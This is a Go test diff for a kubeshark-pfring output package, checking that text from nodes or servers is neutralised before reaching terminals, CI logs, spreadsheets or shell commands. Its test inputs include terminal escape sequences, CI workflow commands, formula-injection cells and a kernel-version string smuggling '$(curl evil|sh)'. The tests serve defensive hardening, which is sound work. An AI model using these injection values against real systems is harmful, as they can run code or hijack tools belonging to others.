@@ -4,6 +4,8 @@ import (
 	"strings"
 	"testing"
 
+	"sigs.k8s.io/yaml"
+
 	"github.com/kubeshark/kubeshark-pfring/internal/printout"
 )
 
@@ -32,5 +34,46 @@ func TestDocumentsAreForPeopleToo(t *testing.T) {
 	}
 	if err := printout.YAML(&strings.Builder{}, func() {}); err == nil {
 		t.Error("a function was written as YAML")
+	}
+}
+
+// What a node or a server says must not steer a terminal, a CI or a spreadsheet.
+func TestTextFromElsewhereIsHarmless(t *testing.T) {
+	const hostile = "a\x1b]0;pwn\x07\r\n::error::b\u202e\u0085\u009bc"
+	for name, got := range map[string]string{
+		"a line": printout.Line(hostile), "lines": printout.Lines(hostile), "a command to the CI": printout.Line("\n ::error::b"),
+		"an old one": printout.Line("a ##[error]b"), "a cell": printout.Cell("=HYPERLINK(\"x\")"), "a tab before it": printout.Cell("\t@SUM(1)"),
+	} {
+		for line := range strings.Lines(got) {
+			if strings.ContainsAny(line, "\x1b\x07\r\u202e\u0085\u009b") || strings.HasPrefix(strings.TrimSpace(line), "::") ||
+				strings.Contains(line, "##[") || strings.ContainsAny(line[:1], "=@") {
+				t.Errorf("%s: %q", name, got)
+			}
+		}
+	}
+	var asJSON, asYAML strings.Builder
+	v := map[string]string{"kernel": hostile}
+	if err := printout.JSON(&asJSON, v); err != nil {
+		t.Fatal(err)
+	}
+	if err := printout.YAML(&asYAML, v); err != nil {
+		t.Fatal(err)
+	}
+	for _, got := range []string{asJSON.String(), asYAML.String()} {
+		var back map[string]string
+		err := yaml.Unmarshal([]byte(got), &back)
+		if err != nil || strings.ReplaceAll(back["kernel"], "\u202e", "") != strings.ReplaceAll(hostile, "\u202e", "") || strings.ContainsAny(got, "\x1b\u202e\u0085\u009b") {
+			t.Errorf("%q reads back as %q, %v", got, back, err)
+		}
+	}
+}
+
+func TestCommandsToCopyAreQuoted(t *testing.T) {
+	for in, want := range map[string]string{
+		"6.1.0-18-amd64": "6.1.0-18-amd64", "6.12.48+deb13": "6.12.48+deb13", "6.1$(curl evil|sh)": "'6.1$(curl evil|sh)'", "it's": `'it'\''s'`, "": "''",
+	} {
+		if got := printout.Shell(in); got != want {
+			t.Errorf("%q: %s, want %s", in, got, want)
+		}
 	}
 }
